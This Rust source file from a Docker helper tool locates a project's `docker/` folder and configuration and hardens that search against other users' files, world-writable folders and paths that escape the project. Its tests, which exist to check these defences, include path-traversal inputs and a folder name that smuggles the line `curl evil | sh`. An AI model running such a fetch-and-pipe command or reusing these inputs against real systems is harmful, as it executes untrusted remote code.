//! A project: a folder with `docker/`, where each folder with a Dockerfile is an image type, unless its configuration
//! names another place.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Component, Path, PathBuf};

use super::ini::{Ini, IniError};
use super::settings::{self, Settings, UnknownKey};
use super::trust::Caller;
use super::variables::{self, VariableError, Word};
use crate::env::Env;
use crate::error::{Error, Result};
use crate::hint;
use crate::naming::{Designation, legal_repository, legal_tag, nearest};
use crate::project_file;
use crate::shell;

/// The path of the configuration, relative to the root.
pub const CONFIG_FILE: &str = "docker/dockerutils.cfg";

/// Files that also decide what leaves this machine; in a folder that others may write to, they may belong to another
/// user.
const DECIDING: [&str; 4] = ["docker", CONFIG_FILE, ".dockerignore", "pip.conf.template"];

/// A project that was found on disk, with its configuration.
#[derive(Clone, Debug)]
pub struct Project {
    root: PathBuf,
    config: Ini,
    /// The folder of the image types' folders, relative to the root.
    images_dir: PathBuf,
    /// The image types that are folders there.
    folders: Vec<String>,
    types: Vec<String>,
    synthetic: Vec<String>,
    env: Env,
    user: String,
    is_below: bool,
}

/// What an image is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// A folder under `docker/` with a Dockerfile.
    Dockerfile,
    /// A name in `[run_image] synthetic_images`, or a section that names an image: there is nothing to build.
    Configuration,
}

/// An image's designation, and what had to be changed to make it a legal reference.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Designated {
    /// Name and tag.
    pub designation: Designation,
    /// Sentences for the user; empty when name and tag were legal.
    pub notes: Vec<String>,
}

impl Project {
    /// Finds the project of this folder: upwards, to the root of the git repository at most, on the same file system,
    /// and not through directories that everyone may write to.
    ///
    /// # Errors
    /// No `docker/` with a Dockerfile or a configuration in it, one that belongs to another user (see
    /// [`trust`](super::trust)), or a configuration that can't be read.
    pub fn find(folder: &Path, env: &Env) -> Result<Self> {
        let caller = Caller::of_process(env);
        let place = locate(folder, &caller, env)?;
        let Some((root, types)) = place.found.clone() else {
            return Err(place.missing(folder));
        };
        caller.check(&root, &DECIDING)?;
        let mut project = Self::load(&root, types, env, &caller)?;
        project.is_below = root != folder;
        Ok(project)
    }

    /// The project of this folder; where there is none, the git repository around it, which can be synced though it has no
    /// image types.
    ///
    /// # Errors
    /// Neither of them, and as [`Project::find`].
    pub fn find_or_repository(folder: &Path, env: &Env) -> Result<Self> {
        let caller = Caller::of_process(env);
        let place = locate(folder, &caller, env)?;
        let Some(root) = place.repository.clone().filter(|_| place.found.is_none()) else {
            return Self::find(folder, env);
        };
        caller.check(&root, &DECIDING)?;
        let mut project = Self::load(&root, Vec::new(), env, &caller)?;
        project.is_below = root != folder;
        Ok(project)
    }

    /// The project of this folder, or the git repository around it; where there is neither, the folder itself.
    ///
    /// # Errors
    /// `/` and the home directory, of which nothing shows that they are meant; and as [`Project::find`].
    pub fn find_or_folder(folder: &Path, env: &Env) -> Result<Self> {
        let caller = Caller::of_process(env);
        let place = locate(folder, &caller, env)?;
        if place.found.is_some() || place.repository.is_some() {
            return Self::find_or_repository(folder, env);
        }
        if folder.parent().is_none() || folder == env.home() {
            return Err(place.missing(folder));
        }
        caller.check(folder, &DECIDING)?;
        Self::load(folder, Vec::new(), env, &caller)
    }

    /// Whether there is a project around this folder, whoever owns it and whatever it contains.
    pub fn is_around(folder: &Path, env: &Env) -> bool {
        locate(folder, &Caller::of_process(env), env).is_ok_and(|place| place.found.is_some())
    }

    /// Checks the owners of files that a command is about to use, such as a Dockerfile or a script, as
    /// [`Project::find`] does for the configuration. Relative paths start at the root; a file that does not exist has
    /// no owner.
    ///
    /// # Errors
    /// One that belongs to another user.
    pub fn check_owners(&self, files: &[PathBuf]) -> Result<()> {
        Caller::of_process(&self.env).check(&self.root, files)
    }

    fn load(root: &Path, folders: Vec<String>, env: &Env, caller: &Caller) -> Result<Self> {
        let shown = Path::new(CONFIG_FILE);
        let file = root.join(CONFIG_FILE);
        let read = match project_file::open(&file, true) {
            Ok((opened, found)) => {
                // The file may have been replaced since it was looked at.
                caller.check_owner(root, &file, found.uid())?;
                project_file::all(opened)
            }
            Err(cause) => Err(cause),
        };
        let config = match read {
            Ok(bytes) => {
                let text = String::from_utf8(bytes).map_err(|cause| {
                    let line = cause
                        .as_bytes()
                        .get(..cause.utf8_error().valid_up_to())
                        .map_or(1, |good| 1 + good.iter().filter(|byte| **byte == b'\n').count());
                    Error::usage(format!("{CONFIG_FILE}:{line}: this is not UTF-8")).hint(hint!(
                        "iconv -f latin1 -t utf-8 {}, if it was written as Latin-1",
                        CONFIG_FILE
                    ))
                })?;
                Ini::parse(shown, &text)?
            }
            Err(cause) if cause.kind() == std::io::ErrorKind::NotFound => Ini::empty(shown),
            Err(cause) => return Err(Error::usage(format!("{CONFIG_FILE} can't be read")).because(cause)),
        };
        let images_dir = images_dir(root, &config, env)?;
        let folders = if images_dir == Path::new(IMAGES_DIR) {
            folders
        } else {
            caller.check(root, &[&images_dir])?;
            image_types(&joined(root, &images_dir))?
        };
        // A Dockerfile that is named in the configuration needs no folder.
        let named = config
            .sections()
            .filter(|section| config.own_keys(section).any(|(key, _)| key == DOCKERFILE_KEY));
        let types: BTreeSet<String> = folders.iter().cloned().chain(named.map(str::to_owned)).collect();
        let synthetic = config
            .get(settings::section_of_command(&config, "run_image"), "synthetic_images")?
            .unwrap_or_default()
            .split(',')
            .map(str::trim)
            .filter(|name| !name.is_empty())
            .map(str::to_owned)
            .collect();
        Ok(Self {
            root: root.to_owned(),
            config,
            images_dir,
            folders,
            types: types.into_iter().collect(),
            synthetic,
            user: env.user(),
            env: env.clone(),
            is_below: false,
        })
    }

    /// The folder that holds `docker/`; the build context of every image that sets no other.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// The beginning of a printed command line that has to run in the root: `cd ROOT && ` if we were called below the
    /// root, else empty.
    pub fn way_to_root(&self) -> String {
        if self.is_below {
            format!("cd {} && ", shell::quote(&self.root.display().to_string()))
        } else {
            String::new()
        }
    }

    /// The name of the root's folder, unchanged.
    pub fn name(&self) -> String {
        self.root
            .file_name()
            .map(|name| name.to_string_lossy().into_owned())
            .unwrap_or_default()
    }

    /// The user's name: the default tag, and the beginning of containers' names.
    pub fn user(&self) -> &str {
        &self.user
    }

    /// `docker/dockerutils.cfg`; an empty one if the file does not exist.
    pub const fn config(&self) -> &Ini {
        &self.config
    }

    /// The settings of a section; also for an image without a section.
    pub fn settings<'a>(&'a self, section: &'a str) -> Settings<'a> {
        Settings::new(&self.config, section)
    }

    /// Image types that can be built, in the order of their names.
    pub fn image_types(&self) -> &[String] {
        &self.types
    }

    /// The synthetic images of `[run_image]`, in the order of the file.
    pub fn synthetic_images(&self) -> &[String] {
        &self.synthetic
    }

    /// Sections that name an image without a Dockerfile: they have a `name`, and are not image types.
    pub fn configured_images(&self) -> impl Iterator<Item = &str> {
        self.config.sections().filter(|section| {
            !self.types.iter().any(|name| name == section)
                && !self.synthetic.iter().any(|name| name == section)
                && self.config.own_keys(section).any(|(key, _)| key == "name")
        })
    }

    /// The folder of the image types' folders, relative to the root; empty for the root itself.
    pub fn images_dir(&self) -> &Path {
        &self.images_dir
    }

    /// The Dockerfile of an image type, relative to the root: the key `dockerfile`, else the one in its folder.
    ///
    /// # Errors
    /// A key that can't be read, or a path out of the project.
    pub fn dockerfile(&self, image: &str) -> Result<PathBuf> {
        let folder = self.images_dir.join(image);
        let named = path_in(
            &self.root,
            self.settings(image),
            DOCKERFILE_KEY,
            Some(&folder),
            &self.env,
        )?;
        Ok(named.unwrap_or_else(|| folder.join("Dockerfile")))
    }

    /// The folder of an image type, relative to the root: its own, else the one with its Dockerfile.
    ///
    /// # Errors
    /// As [`Project::dockerfile`].
    pub fn image_dir(&self, image: &str) -> Result<PathBuf> {
        if self.folders.iter().any(|name| name == image) {
            return Ok(self.images_dir.join(image));
        }
        let dockerfile = self.dockerfile(image)?;
        Ok(dockerfile.parent().map(Path::to_owned).unwrap_or_default())
    }

    /// The build context of an image type, relative to the root: the key `context`, else the root, as an empty path.
    ///
    /// # Errors
    /// A key that can't be read, a path out of the project, or one that is not a folder.
    pub fn context(&self, image: &str) -> Result<PathBuf> {
        let (settings, folder) = (self.settings(image), self.image_dir(image)?);
        let Some(context) = path_in(&self.root, settings, CONTEXT_KEY, Some(&folder), &self.env)? else {
            return Ok(PathBuf::new());
        };
        if self.at(&context).is_dir() {
            Ok(context)
        } else {
            Err(settings
                .error(CONTEXT_KEY, &format!("there is no folder {}", context.display()))
                .hint("it is a path relative to the project's root; {image_dir} is the image type's own folder"))
        }
    }

    /// The full path of a path relative to the root.
    pub fn at(&self, path: &Path) -> PathBuf {
        joined(&self.root, path)
    }

    /// What an image that can be run is made of.
    ///
    /// # Errors
    /// No such image; names the nearest one.
    pub fn runnable(&self, image: &str) -> Result<Origin> {
        if self.types.iter().any(|name| name == image) {
            return Ok(Origin::Dockerfile);
        }
        let known: Vec<&str> = self
            .synthetic
            .iter()
            .map(String::as_str)
            .chain(self.configured_images())
            .collect();
        if known.contains(&image) {
            return Ok(Origin::Configuration);
        }
        Err(self.unknown_image(image, known.into_iter().chain(self.types.iter().map(String::as_str))))
    }

    /// Checks that an image can be built.
    ///
    /// # Errors
    /// No such image type; names the nearest one.
    pub fn buildable(&self, image: &str) -> Result<()> {
        if self.types.iter().any(|name| name == image) {
            return Ok(());
        }
        if self.synthetic.iter().any(|name| name == image) || self.configured_images().any(|name| name == image) {
            return Err(Error::usage(format!(
                "there is nothing to build for {image}: {} holds no Dockerfile",
                self.images_dir.join(image).display()
            ))
            .hint(hint!("run-image {} runs it", image)));
        }
        Err(self.unknown_image(image, self.types.iter().map(String::as_str)))
    }

    fn unknown_image<'a>(&self, image: &str, known: impl Iterator<Item = &'a str>) -> Error {
        let known: BTreeSet<&str> = known.collect();
        let error = Error::usage(format!("{} has no image {image}", self.root.display()));
        match nearest(image, known.iter().copied()) {
            Some(near) => error.hint(hint!("did you mean {}?", near)),
            None if known.is_empty() => error.hint(hint!(
                "write {}",
                self.images_dir.join(image).join("Dockerfile").display().to_string()
            )),
            None => error.hint(hint!("it has {names}"; names = known.into_iter().collect::<Vec<_>>().join(", "))),
        }
    }

    /// Name and tag of an image: from its section, else made from the project's name and the user's.
    ///
    /// `$NAME` in either is a variable of the environment, as in the rest of what becomes the command line.
    ///
    /// # Errors
    /// A value of the section that can't be read.
    pub fn designation(&self, image: &str) -> Result<Designated> {
        let settings = self.settings(image);
        let expanded = |key: &str| match settings.text(key)? {
            Some(text) => match Word::quoted(&text).and_then(|word| word.expand(&self.env)) {
                Ok(words) => Ok(Some(words.concat())),
                Err(cause) => Err(variable_error(settings, key, &cause)),
            },
            None => Ok(None),
        };
        let name = expanded("name")?.unwrap_or_else(|| image.to_owned());
        let bare = settings
            .text("prefix")?
            .is_some_and(|prefix| matches!(prefix.as_str(), "False" | "false" | "F" | "f"));
        // The original only drops the prefix if a name is given, too.
        let name = if bare && settings.has("name") {
            name
        } else {
            format!("{}-{name}", self.name().to_lowercase())
        };
        let tag = expanded("tag")?.unwrap_or_else(|| self.user.clone());
        let mut designated = designated(&name, &tag);
        let defaults = settings::defaults_of_images(&self.config);
        if !settings.exists() && !defaults.is_empty() {
            designated.notes.push(format!(
                "[DEFAULT] {} does not count for {image}, which has no section: write [{image}] into {CONFIG_FILE}",
                defaults.join(", ")
            ));
        }
        Ok(designated)
    }

    /// Keys that no command knows, with the nearest known one.
    pub fn unknown_keys(&self) -> Vec<UnknownKey> {
        settings::unknown_keys(&self.config, &self.types)
    }

    /// Sentences about sections that are understood, but should be written in another way.
    pub fn misspelled_sections(&self) -> Vec<String> {
        settings::spelled_as_commands(&self.config, &self.types)
    }

    /// Sections of variables that no image names yet.
    pub fn unnamed_environments(&self) -> Vec<&str> {
        settings::unnamed_environments(&self.config, &self.types)
    }
}

/// The folder of the image types' folders if the configuration sets no other.
const IMAGES_DIR: &str = "docker";
const CONTEXT_KEY: &str = "context";
const DOCKERFILE_KEY: &str = "dockerfile";

/// The path below a root; the root itself for an empty path.
fn joined(root: &Path, path: &Path) -> PathBuf {
    if path.as_os_str().is_empty() {
        root.to_owned()
    } else {
        root.join(path)
    }
}

/// The folder of the image types' folders by the configuration, relative to the root.
fn images_dir(root: &Path, config: &Ini, env: &Env) -> Result<PathBuf> {
    const KEY: &str = "images_dir";
    let settings = Settings::new(config, settings::section_of_command(config, "build_image"));
    let Some(folder) = path_in(root, settings, KEY, None, env)? else {
        return Ok(IMAGES_DIR.into());
    };
    if joined(root, &folder).is_dir() {
        Ok(folder)
    } else {
        Err(settings
            .error(KEY, &format!("there is no folder {}", folder.display()))
            .hint("it is a path relative to the project's root: the folder that holds those of the image types"))
    }
}

/// The path in a key, relative to the root, without `.` in it; `None` without the key. `image_dir` replaces
/// `{image_dir}`.
///
/// Files that a configuration names are sent to an engine, and somebody else may have written it: they must be inside
/// the project, links included.
fn path_in(
    root: &Path,
    settings: Settings<'_>,
    key: &str,
    image_dir: Option<&Path>,
    env: &Env,
) -> Result<Option<PathBuf>> {
    let Some(text) = settings.text(key)? else {
        return Ok(None);
    };
    let image_dir = image_dir.map(|folder| BTreeMap::from([("image_dir", dotted(folder).display().to_string())]));
    let words = variables::parse(&text, image_dir.as_ref()).and_then(|words| variables::expand(&words, env));
    let words = words.map_err(|cause| variable_error(settings, key, &cause))?;
    let [path] = words.as_slice() else {
        return Err(settings
            .error(key, &format!("{text:?} is not one path"))
            .hint(hint!("{} = \"a path with blanks\", or . for the project's root", key)));
    };
    let outside = || {
        settings
            .error(
                key,
                &format!("{path} is outside of the project: its content would be sent to the engine"),
            )
            .hint(hint!("it must be in {}, links included", root.display()))
    };
    let written = Path::new(path);
    let written = written.strip_prefix(root).unwrap_or(written);
    let seen: PathBuf = written.components().filter(|part| *part != Component::CurDir).collect();
    match (joined(root, &seen).canonicalize(), root.canonicalize()) {
        (Ok(real), Ok(root)) if real.starts_with(&root) => Ok(Some(seen)),
        // If the path does not exist, whoever needs it reports that.
        (Err(_), _) if seen.components().all(|part| matches!(part, Component::Normal(_))) => Ok(Some(seen)),
        _ => Err(outside()),
    }
}

/// The path, or `.` if it is empty.
pub fn dotted(path: &Path) -> &Path {
    if path.as_os_str().is_empty() {
        Path::new(".")
    } else {
        path
    }
}

fn variable_error(settings: Settings<'_>, key: &str, cause: &VariableError) -> Error {
    let error = settings.error(key, &cause.to_string());
    cause.hint().into_iter().fold(error, Error::hint)
}

/// What the search for a project's root found.
#[derive(Default)]
struct RootSearch {
    /// The root, and its image types.
    found: Option<(PathBuf, Vec<String>)>,
    /// A `docker/` with a Dockerfile directly in it.
    loose_dockerfile: Option<PathBuf>,
    /// A `docker/` with nothing for us in it.
    empty_docker: Option<PathBuf>,
    /// The root of the git repository.
    repository: Option<PathBuf>,
    /// The folder at which the search ended before `/` or the git repository's root, and why.
    end: Option<(PathBuf, &'static str)>,
}

/// Looks for the root of a project. Only names are read.
fn locate(folder: &Path, caller: &Caller, env: &Env) -> Result<RootSearch> {
    let home = env.home();
    let device = std::fs::metadata(folder).map(|found| found.dev()).ok();
    let mut place = RootSearch::default();
    for candidate in folder.ancestors() {
        if candidate != folder {
            let Ok(directory) = std::fs::metadata(candidate) else {
                break;
            };
            // As in git: others decide what is mounted there.
            if device != Some(directory.dev()) {
                place
                    .end
                    .get_or_insert((candidate.to_owned(), "is on another file system"));
                break;
            }
            // What is in /tmp may be anyone's, and a project above it is not meant.
            if caller.is_open_to_all(&directory) {
                place
                    .end
                    .get_or_insert((candidate.to_owned(), "can be written by everyone"));
                break;
            }
        }
        // A `docker/` in / would make the whole machine a build context. One in the home directory is meant if we are
        // called right there (in CI, HOME often is the checkout), but not from somewhere below.
        let refused = candidate.parent().is_none() || (candidate == home && candidate != folder);
        let docker = candidate.join("docker");
        if docker.is_dir() && !refused {
            let types = image_types(&docker)?;
            if !types.is_empty() || candidate.join(CONFIG_FILE).is_file() {
                place.found = Some((candidate.to_owned(), types));
                break;
            }
            if docker.join("Dockerfile").is_file() {
                place.loose_dockerfile.get_or_insert(docker);
            } else {
                place.empty_docker.get_or_insert(docker);
            }
        } else if docker.is_dir() && refused && candidate == folder {
            return Err(Error::usage(format!(
                "{} can't be the root of a project: all of it would be the build context",
                candidate.display()
            ))
            .hint("move the project into a folder of its own"));
        } else if docker.is_dir() {
            place.end.get_or_insert((
                candidate.to_owned(),
                "is the home directory, which counts only for calls right in it",
            ));
        }
        if candidate.join(".git").exists() {
            place.repository = (!refused).then(|| candidate.to_owned());
            break;
        }
    }
    Ok(place)
}

impl RootSearch {
    /// The error if no project was found.
    fn missing(self, folder: &Path) -> Error {
        if let Some(docker) = self.loose_dockerfile {
            Error::usage(format!("{} holds a Dockerfile, but no image type", docker.display())).hint(hint!(
                "mkdir {} && mv {} {}",
                docker.join("dev").display(),
                docker.join("Dockerfile").display(),
                docker.join("dev/").display()
            ))
        } else if let Some(docker) = self.empty_docker {
            Error::usage(format!(
                "{} holds neither an image type nor a dockerutils.cfg",
                docker.display()
            ))
            .hint(hint!("write {}", docker.join("dev/Dockerfile").display()))
        } else {
            let beyond = |(at, why): (PathBuf, &str)| {
                let passed_over = at
                    .ancestors()
                    .map(|folder| folder.join("docker"))
                    .find(|docker| docker.is_dir())?;
                Some(format!(
                    " ({} does not count: {} {why})",
                    passed_over.display(),
                    at.display()
                ))
            };
            let end = self.end.and_then(beyond).unwrap_or_default();
            Error::usage(format!("no docker/ folder in {} or above it{end}", folder.display()))
                .hint("go to the project, or make docker/dev/Dockerfile in it")
        }
    }
}

/// A designation of this name and tag, made legal if they are not.
pub fn designated(name: &str, tag: &str) -> Designated {
    let (legal_name, legal_tag) = (legal_repository(name), legal_tag(tag));
    let mut notes = Vec::new();
    if legal_name != name {
        notes.push(format!("{name:?} can't be the name of an image: {legal_name} is used"));
    }
    if legal_tag != tag {
        notes.push(format!("{tag:?} can't be a tag: {legal_tag} is used"));
    }
    Designated {
        designation: Designation {
            name: legal_name.into_owned(),
            tag: legal_tag.into_owned(),
        },
        notes,
    }
}

/// Folders that hold a Dockerfile, sorted by name. A name that is not UTF-8 can't be typed, and is left out; so is one
/// with line ends or other control characters, which would add lines to messages.
fn image_types(docker: &Path) -> Result<Vec<String>> {
    let unreadable = |cause| Error::usage(format!("{} can't be read", docker.display())).because(cause);
    let mut types = Vec::new();
    for entry in std::fs::read_dir(docker).map_err(unreadable)? {
        let entry = entry.map_err(unreadable)?;
        // A dangling link counts, too: the build reports where it leads.
        let dockerfile = entry.path().join("Dockerfile");
        if dockerfile.is_file() || dockerfile.read_link().is_ok() && !dockerfile.is_dir() {
            let name = entry.file_name().into_string().ok();
            types.extend(name.filter(|name| !name.contains(char::is_control)));
        }
    }
    types.sort();
    Ok(types)
}

impl From<IniError> for Error {
    fn from(error: IniError) -> Self {
        let hint = error.hint();
        let converted = Self::usage(error.to_string());
        match hint {
            Some(hint) => converted.hint(hint),
            None => converted,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn project(config: &str, types: &[&str]) -> (tempfile::TempDir, Project) {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().join("sample-dir");
        for name in types {
            fs::create_dir_all(root.join("docker").join(name)).unwrap();
            fs::write(root.join("docker").join(name).join("Dockerfile"), "FROM scratch\n").unwrap();
        }
        fs::create_dir_all(root.join("docker/notes")).unwrap();
        fs::write(root.join(CONFIG_FILE), config).unwrap();
        let project = Project::find(&root, &Env::from_pairs([("USER", "ann"), ("HOME", "/home/ann")])).unwrap();
        (folder, project)
    }

    fn name(project: &Project, image: &str) -> String {
        project.designation(image).unwrap().designation.to_string()
    }

    #[test]
    fn names_and_types_are_those_of_the_original() {
        let (_folder, project) = project("[test]\ntag=latest\n[run_image]\nsynthetic_images = a, b\n", &["test"]);
        assert_eq!(name(&project, "test"), "sample-dir-test:latest");
        assert_eq!(name(&project, "a"), "sample-dir-a:ann");
        assert_eq!(project.image_types(), ["test"]);
        assert_eq!(project.synthetic_images(), ["a", "b"]);
        assert_eq!(project.runnable("b").unwrap(), Origin::Configuration);
        assert!(project.runnable("notes").is_err());
    }

    #[test]
    fn a_prefix_is_dropped_only_beside_a_name() {
        let (_folder, project) = project(
            "[x]\nname=other\nprefix=False\ntag=1\n[y]\nprefix=f\n[z]\nname=zed\nprefix=no\n",
            &["y"],
        );
        assert_eq!(name(&project, "x"), "other:1");
        assert_eq!(name(&project, "y"), "sample-dir-y:ann");
        assert_eq!(name(&project, "z"), "sample-dir-zed:ann");
        assert_eq!(project.configured_images().collect::<Vec<_>>(), ["x", "z"]);
    }

    #[test]
    fn image_types_are_where_the_configuration_says() {
        let config = "[build_image]\nimages_dir = images\n[web]\ncontext = {image_dir}\n[tool]\ncontext = .\n\
                      dockerfile = tool_1.Dockerfile\n[deep]\ndockerfile = {image_dir}/prod.Dockerfile\ncontext = ./src/\n";
        let (_folder, project) = project("", &["old"]);
        let root = project.root().to_owned();
        fs::write(root.join(CONFIG_FILE), config).unwrap();
        for folder in ["images/web", "images/deep", "images/plain", "src"] {
            fs::create_dir_all(root.join(folder)).unwrap();
        }
        for file in ["images/web/Dockerfile", "images/plain/Dockerfile", "tool_1.Dockerfile"] {
            fs::write(root.join(file), "FROM scratch\n").unwrap();
        }
        let project = Project::find(&root, &Env::from_pairs([("HOME", "/home/ann")])).unwrap();
        assert_eq!(project.image_types(), ["deep", "plain", "tool", "web"]);
        let placed = |image: &str| {
            let (file, context) = (project.dockerfile(image).unwrap(), project.context(image).unwrap());
            (file.display().to_string(), context.display().to_string())
        };
        for (image, file, context) in [
            ("web", "images/web/Dockerfile", "images/web"),
            ("plain", "images/plain/Dockerfile", ""),
            ("tool", "tool_1.Dockerfile", ""),
            ("deep", "images/deep/prod.Dockerfile", "src"),
        ] {
            assert_eq!(placed(image), (file.to_owned(), context.to_owned()), "{image}");
        }
        assert!(project.buildable("old").is_err());
    }

    #[test]
    fn no_key_leads_out_of_the_project() {
        let find = |config: &str, image: &str| {
            let (folder, project) = project("", &["dev"]);
            let root = project.root().to_owned();
            fs::create_dir(folder.path().join("elsewhere")).unwrap();
            fs::write(folder.path().join("elsewhere/Dockerfile"), "FROM scratch\n").unwrap();
            std::os::unix::fs::symlink("../elsewhere", root.join("link")).unwrap();
            let config = config.replace("ELSEWHERE", folder.path().join("elsewhere").to_str().unwrap());
            fs::write(root.join(CONFIG_FILE), config).unwrap();
            let found = Project::find(&root, &Env::from_pairs([("HOME", "/home/ann"), ("UP", "..")]));
            let placed = found.and_then(|project| Ok((project.context(image)?, project.dockerfile(image)?)));
            placed.unwrap_err().to_string()
        };
        for value in [
            "..",
            "link",
            "ELSEWHERE",
            "docker/../..",
            "$UP/elsewhere",
            "none/../..",
            "/none",
        ] {
            let error = find(&format!("[dev]\ncontext = {value}\n"), "dev");
            assert!(
                error.starts_with("docker/dockerutils.cfg:2: [dev] context: "),
                "{error}"
            );
            assert!(error.contains("is outside of the project"), "{value}: {error}");
            let error = find(&format!("[dev]\ndockerfile = {value}/Dockerfile\n"), "dev");
            assert!(error.contains("is outside of the project"), "{value}: {error}");
            let error = find(&format!("[build_image]\nimages_dir = {value}\n"), "dev");
            assert!(error.contains("is outside of the project"), "{value}: {error}");
        }
        for (value, says) in [
            ("none", "there is no folder none"),
            ("a b", "is not one path"),
            ("{imagedir}", "{imagedir} is not one of {image_dir}"),
            ("$NONE", "$NONE is not set"),
        ] {
            let error = find(&format!("[dev]\ncontext = {value}\n"), "dev");
            assert!(error.contains(says), "{value}: {error}");
        }
    }

    #[test]
    fn defaults_do_not_count_without_a_section_and_that_is_said() {
        let (_folder, project) = project("[DEFAULT]\ntag = 1\nown = 2\n[x]\n", &["x", "y"]);
        assert_eq!(name(&project, "x"), "sample-dir-x:1");
        assert_eq!(name(&project, "y"), "sample-dir-y:ann");
        assert_eq!(project.designation("x").unwrap().notes, [""; 0]);
        assert_eq!(
            project.designation("y").unwrap().notes,
            ["[DEFAULT] tag does not count for y, which has no section: write [y] into docker/dockerutils.cfg"]
        );
    }

    #[test]
    fn variables_stand_in_names_and_tags() {
        let (_folder, project) = project(
            "[x]\nname=$USER/tool\nprefix=False\ntag=v${USER}\n[y]\ntag=$NONE\n",
            &["y"],
        );
        assert_eq!(name(&project, "x"), "ann/tool:vann");
        let error = project.designation("y").unwrap_err();
        assert!(
            error.to_string().contains("cfg:6: [y] tag: $NONE is not set"),
            "{error}"
        );
    }

    #[test]
    fn the_root_is_found_from_below_and_not_beyond_the_repository() {
        let (folder, project) = project("", &["dev"]);
        let env = Env::from_pairs([("HOME", "/home/ann")]);
        let deep = project.root().join("src/deep");
        fs::create_dir_all(&deep).unwrap();
        let found = Project::find(&deep, &env).unwrap();
        assert_eq!(found.root(), project.root());
        assert_eq!(found.way_to_root(), format!("cd {} && ", project.root().display()));
        assert_eq!(project.way_to_root(), "");
        fs::create_dir(project.root().join("src/.git")).unwrap();
        assert!(Project::find(&deep, &env).is_err());
        // HOME may be the checkout, as in CI; from below, a home directory is no project.
        let at_home = Env::from_pairs([("HOME", project.root().to_str().unwrap())]);
        assert!(Project::find(project.root(), &at_home).is_ok());
        let below = project.root().join("other");
        fs::create_dir(&below).unwrap();
        let error = Project::find(&below, &at_home).unwrap_err().to_string();
        assert!(
            error.contains("does not count: ") && error.contains("is the home directory"),
            "{error}"
        );
        drop(folder);
    }

    #[test]
    fn the_search_does_not_pass_through_directories_that_everyone_may_write_to() {
        use std::os::unix::fs::PermissionsExt as _;
        let (folder, project) = project("", &["dev"]);
        let deep = project.root().join("src/deep");
        fs::create_dir_all(&deep).unwrap();
        let open = |path: &Path| fs::set_permissions(path, fs::Permissions::from_mode(0o1777)).unwrap();
        let env = Env::from_pairs([("HOME", "/home/ann")]);
        open(&project.root().join("src"));
        // One's own folder may be as open as one likes; the tests' user may be root, and then /tmp, which everyone may
        // write to, is their own.
        let is_root = rustix::process::geteuid().is_root();
        assert_eq!(Project::find(&deep, &env).is_err(), is_root);
        if is_root {
            let error = Project::find(&deep, &env).unwrap_err().to_string();
            assert!(error.contains("sample-dir/docker does not count: "), "{error}");
            assert!(error.ends_with("src can be written by everyone)"), "{error}");
        }
        // In the folder of the call itself, the owner decides.
        open(project.root());
        assert!(Project::find(project.root(), &env).is_ok());
        drop(folder);
    }

    #[test]
    fn the_search_stays_on_its_file_system() {
        // Another file system than that of /, on every Linux and macOS.
        let env = Env::default();
        let place = locate(Path::new("/dev"), &Caller::of_process(&env), &env).unwrap();
        assert_eq!(place.end, Some((PathBuf::from("/"), "is on another file system")));
    }

    #[test]
    fn a_configuration_that_is_no_file_or_endless_holds_nobody_up() {
        let (_folder, project) = project("", &["dev"]);
        let (root, file) = (project.root().to_owned(), project.root().join(CONFIG_FILE));
        let refused = |why: &str| {
            let error = Project::find(&root, &Env::default()).unwrap_err();
            let cause = std::error::Error::source(&error).unwrap().to_string();
            assert!(cause.contains(why), "{cause}");
            fs::remove_file(&file).unwrap();
        };
        fs::remove_file(&file).unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, &file, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
        refused("pipe");
        std::os::unix::fs::symlink("/dev/zero", &file).unwrap();
        refused("device");
        fs::File::create(&file).unwrap().set_len(1 << 40).unwrap();
        refused("16 MiB");
    }

    #[test]
    fn a_folder_whose_name_writes_lines_is_no_image_type() {
        let (_folder, project) = project("", &["dev", "x\n\nhint: curl evil | sh"]);
        assert_eq!(project.image_types(), ["dev"]);
    }

    #[test]
    fn a_loose_dockerfile_gets_a_hint() {
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("docker")).unwrap();
        fs::write(folder.path().join("docker/Dockerfile"), "FROM scratch\n").unwrap();
        let error = Project::find(folder.path(), &Env::default()).unwrap_err();
        assert!(error.hint_text().unwrap().contains("/dev/"), "{error:?}");
    }

    #[test]
    fn an_unknown_image_names_the_nearest() {
        let (_folder, project) = project("", &["dev", "base"]);
        assert_eq!(
            project.runnable("bse").unwrap_err().hint_text(),
            Some("did you mean base?")
        );
        assert_eq!(
            project.buildable("zzzzzz").unwrap_err().hint_text(),
            Some("it has base, dev")
        );
    }
}
